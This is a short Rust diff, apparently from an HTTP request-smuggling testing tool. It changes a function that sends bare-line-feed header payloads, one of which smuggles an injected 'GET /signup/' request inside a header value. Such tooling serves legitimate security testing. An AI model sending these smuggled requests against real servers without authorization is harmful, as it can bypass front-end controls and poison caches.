@@ -70,11 +70,8 @@ pub async fn two_lengths(target: &Target) -> Result<Outcome> {
 /// # Errors
 /// When the attack could not be carried out.
 pub async fn bare_line_feed(target: &Target) -> Result<Outcome> {
-    let lines = [
-        "X: y\n\nGET /signup/ HTTP/1.1\r\n".to_owned(),
-        "X: y\nTransfer-Encoding: chunked\r\nContent-Length: 0\r\n".to_owned(),
-    ];
-    smuggled(target, &lines, "").await
+    let line = "X: y\n\nGET /signup/ HTTP/1.1\r\n".to_owned();
+    smuggled(target, &[line], "").await
 }
 
 /// Ends the line of a chunk's size with a line feed within its extension.
